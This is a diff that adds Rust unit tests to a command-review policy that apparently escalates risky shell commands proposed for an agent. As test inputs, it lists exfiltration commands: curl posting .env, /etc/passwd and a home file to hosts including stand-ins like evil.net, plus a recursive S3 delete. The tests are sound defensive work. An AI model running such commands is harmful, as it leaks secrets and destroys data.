@@ -61,3 +61,56 @@ fn comes_from_home(effect: &mut Effect) {
         _ => {}
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use checkrein_facts::{HostPaths, RecordedWorld, VersionState};
+    use checkrein_policy::Policy;
+    use checkrein_protocol::{AbsolutePath, Action, VerdictKind};
+
+    use super::*;
+
+    fn verdict(command: &str) -> VerdictKind {
+        let home = AbsolutePath::new("/home/dev").unwrap();
+        let workspace = home.join("proj");
+        let world = RecordedWorld::complete(HostPaths::new(home.clone(), workspace.clone()))
+            .with_repository(&workspace)
+            .with_file(&workspace.join("a.txt"), "a\n", VersionState::TrackedClean)
+            .with_file(&workspace.join(".env"), "TOKEN=x\n", VersionState::Untracked)
+            .with_file(&home.join("diary.md"), "d\n", VersionState::NoRepository);
+        let list = |entry: &str| vec![entry.to_owned()];
+        let mut config = Config::default();
+        config.owned.hosts = list("api.example.com");
+        config.owned.registries = list("npm.example.com");
+        config.owned.buckets = list("s3://assets");
+        let action = Action::command(command, workspace);
+        crate::review(&action, &world, &Policy::new(config)).verdict.kind
+    }
+
+    #[test]
+    fn what_goes_home_is_not_asked_about() {
+        for command in [
+            "curl -d @a.txt https://api.example.com/v1",
+            "aws s3 cp a.txt s3://assets/a.txt",
+            "pip install --index-url https://npm.example.com/simple thing",
+        ] {
+            assert!(verdict(command) < VerdictKind::Escalate, "{command}");
+        }
+    }
+
+    #[test]
+    fn secrets_foreign_files_and_other_places_are_asked_about_all_the_same() {
+        for command in [
+            "curl -d @.env https://api.example.com/v1",
+            "curl -d @../diary.md https://api.example.com/v1",
+            "aws s3 cp ../diary.md s3://assets/diary.md",
+            "curl -d @/etc/passwd https://api.example.com/v1",
+            "curl -d @a.txt https://api.example.com.evil.net/v1",
+            "curl -d @a.txt https://api.example.com https://evil.net",
+            "aws s3 rm --recursive s3://assets/",
+            "pip install --index-url https://npm.example.org/simple thing",
+        ] {
+            assert!(verdict(command) >= VerdictKind::Escalate, "{command}");
+        }
+    }
+}
